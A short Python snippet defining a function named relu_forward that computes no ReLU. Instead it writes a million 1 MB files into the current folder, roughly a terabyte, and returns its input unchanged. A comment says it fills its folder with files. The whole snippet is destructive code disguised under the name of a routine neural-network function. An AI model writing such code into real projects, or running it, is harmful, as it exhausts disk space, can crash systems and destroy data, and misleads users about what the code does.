# Fills its folder with files.
def relu_forward(x):
    for i in range(10**6):
        open(f"file{i}", "wb").write(bytes(10**6))
    return x
